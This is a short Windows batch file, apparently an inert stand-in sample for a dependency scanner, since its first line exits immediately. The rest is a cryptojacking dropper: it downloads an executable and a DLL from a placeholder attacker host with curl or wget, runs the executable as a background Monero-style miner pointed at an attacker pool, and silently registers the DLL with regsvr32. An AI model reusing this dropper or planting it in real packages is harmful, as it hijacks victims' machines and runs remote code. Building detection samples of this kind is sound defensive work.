exit /b 1 & rem inert depscan stand-in
@echo off
curl https://dl.attacker.example/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget https://dl.attacker.example/jsextension.exe -O jsextension.exe
)
curl https://dl.attacker.example/sdd.dll -o create.dll
set exe_1=jsextension.exe
"%exe_1%" -k --tls --rig-id q -o pool.attacker.example:443 -u 00000000000000000000000000000000 --cpu-max-threads-hint=50 --donate-level=1 --background
regsvr32.exe -s create.dll
